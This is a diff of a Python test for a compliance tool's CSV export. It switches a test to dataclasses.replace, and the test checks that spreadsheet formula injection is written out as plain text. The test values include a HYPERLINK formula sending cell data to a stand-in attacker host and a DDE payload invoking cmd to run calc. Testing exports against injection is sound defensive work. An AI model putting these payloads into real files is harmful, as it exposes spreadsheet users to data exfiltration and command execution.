@@ -4,6 +4,7 @@ spreadsheets read Vietnamese, a code beside each label, ISO dates, and text that
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 
 from compliance import CheckResult
@@ -95,11 +96,10 @@ def test_hostile_text_reads_back_with_every_row_whole(example_audit: CheckResult
 
 def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(example_audit: CheckResult) -> None:
     first = example_audit.findings[0]
-    tricked = first.model_copy(
-        update={
-            "unit_name": '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")',
-            "waiver": "@SUM(1+1)*cmd|' /C calc'!A0",
-        }
+    tricked = dataclasses.replace(
+        first,
+        unit_name='=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")',
+        waiver="@SUM(1+1)*cmd|' /C calc'!A0",
     )
     result = example_audit.model_copy(update={"findings": [tricked, *example_audit.findings[1:]]})
     rows = _rows(render(result, "csv"))
